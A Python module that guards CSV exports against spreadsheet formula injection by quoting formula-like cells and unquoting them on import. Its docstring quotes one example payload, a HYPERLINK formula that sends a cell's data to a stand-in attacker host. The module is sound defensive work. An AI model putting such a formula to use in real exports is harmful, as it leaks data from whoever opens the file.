"""CSV that a spreadsheet opens as data: no cell it would run as a formula.

Excel, LibreOffice and Google Sheets take a cell whose text starts with `=`, `+`, `-` or `@`
(or a tab or a carriage return before one) for a formula: a name such as
`=HYPERLINK("http://evil.example/?d="&A3,"Klikk")`, sent through the public sign-up form, would
run on the admin's machine when the export is opened. As OWASP recommends ("CSV Injection"),
such a cell gets a leading single quote, which makes it text.

`cell` adds the quote on the way out and `value` takes it off on the way in, so that an export
read back by `subscribers import` gives the names and addresses that were stored. A value that
already starts with single quotes before such a character gets one more, so that the two are
exact inverses and nothing stored is ever changed by a round trip.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, TextIO

FORMULA = re.compile(r"'*[=+\-@\t\r]")
"""A text that starts like a formula, after any single quotes: what gets one more quote."""


def cell(value: object) -> object:
    """`value` as a CSV cell a spreadsheet shows as it is; only text can need the quote."""
    if isinstance(value, str) and FORMULA.match(value):
        return "'" + value
    return value


def value(text: str) -> str:
    """The value a cell written by `cell` stands for: its quote taken off again."""
    return text[1:] if text.startswith("'") and FORMULA.match(text) else text


class Writer:
    """`csv.writer` whose every cell goes through `cell`, with CRLF line ends (RFC 4180).

    The line end is what makes the csv module quote a cell holding a carriage return or a
    newline: with "\n" alone, a bare CR inside a cell went out unquoted, and a spreadsheet
    began a new row there, whose first cell could be a formula."""

    def __init__(self, out: TextIO, **options: Any) -> None:
        self.writer = csv.writer(out, lineterminator="\r\n", **options)

    def writerow(self, row: Iterable[object]) -> None:
        self.writer.writerow([cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)
